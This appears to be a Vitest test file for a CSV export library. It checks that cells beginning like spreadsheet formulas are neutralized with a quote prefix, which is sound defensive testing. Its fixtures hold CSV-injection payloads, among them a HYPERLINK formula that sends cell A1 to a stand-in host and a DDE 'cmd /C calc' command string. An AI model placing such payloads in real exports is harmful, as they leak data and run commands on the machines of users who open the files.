/**
 * Inert exports: an id, a note or a decision that begins like a formula reaches the CSV audit list,
 * its decisions and the problem report as text a spreadsheet will not run; numbers stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../src/lib/data/csv';
import { problemsToCsv } from '../../../src/lib/data/problems';
import { inertCsvField } from '../../../src/lib/data/csv-cells';
import { flagsToCsv } from '../../../src/lib/export/flags-csv';
import { DECISION_COLUMNS, joinDecisions } from '../../../src/lib/export/join-decisions';
import type { Decision } from '../../../src/lib/review/types';
import type { Flag } from '../../../src/lib/rules/types';

const rows = (csv: string) => {
  const out: string[][] = [];
  parseCsv([csv.replace(/^\uFEFF/, '')], (fields) => void out.push(fields));
  return out;
};

const flag: Flag = {
  flag_id: '0123456789abcdef',
  rule: 'late_rating',
  severity: 'low',
  year: 2023,
  subject_type: 'person',
  subject_id: '=HYPERLINK("http://example.invalid/?x="&A1,"Xem")',
  unit_id: '@SUM(1+1)',
  score: -0.25,
  regulation: 'QĐ 366-QĐ/TW',
  message: '+1+cmd|\' /C calc\'!A0',
  evidence: '\t=1+1',
  related: '-2+3'
} as Flag;

describe('a CSV cell that would start a formula', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1'])('%j is prefixed with a quote and quoted', (s) => {
    expect(inertCsvField(s)).toBe(`"'${s}"`);
  });
  it('numbers stay numbers, ordinary text stays as it was', () => {
    expect([inertCsvField(-0.25), inertCsvField(-3), inertCsvField(0), inertCsvField('Chi bộ 1, xã A'), inertCsvField('a=b'), inertCsvField(null)]).toEqual([
      '-0.25',
      '-3',
      '0',
      '"Chi bộ 1, xã A"',
      'a=b',
      ''
    ]);
  });
});

describe('exports', () => {
  it('the audit list with its decisions: every text cell inert, the score a number', () => {
    const decision = { flag_id: flag.flag_id, status: 'dismissed', note: '=cmd()', decided_by: '@admin', decided_at: '2026-01-02T03:04:05.000Z' } as Decision;
    const [header, row] = rows(flagsToCsv(joinDecisions([flag], [decision]), DECISION_COLUMNS));
    const cell = (c: string) => row[header.indexOf(c)];
    expect(cell('subject_id')).toBe(`'${flag.subject_id}`);
    expect(cell('unit_id')).toBe("'@SUM(1+1)");
    expect(cell('message')).toBe(`'${flag.message}`);
    expect(cell('evidence')).toBe("'\t=1+1");
    expect(cell('score')).toBe('-0.25');
    expect(cell('note')).toBe("'=cmd()");
    expect(cell('decided_by')).toBe("'@admin");
    expect(row.every((v) => !/^[=+\-@\t\r]/.test(v) || v === '-0.25')).toBe(true);
  });

  it('the problem report', () => {
    const [, row] = rows(problemsToCsv([{ severity: 'error', file: 'people.csv', row: 2, column: 'person_id', message: 'x', found: '=HYPERLINK("a")' }]));
    expect(row).toContain(`'=HYPERLINK("a")`);
    expect(row).toContain('2');
  });
});
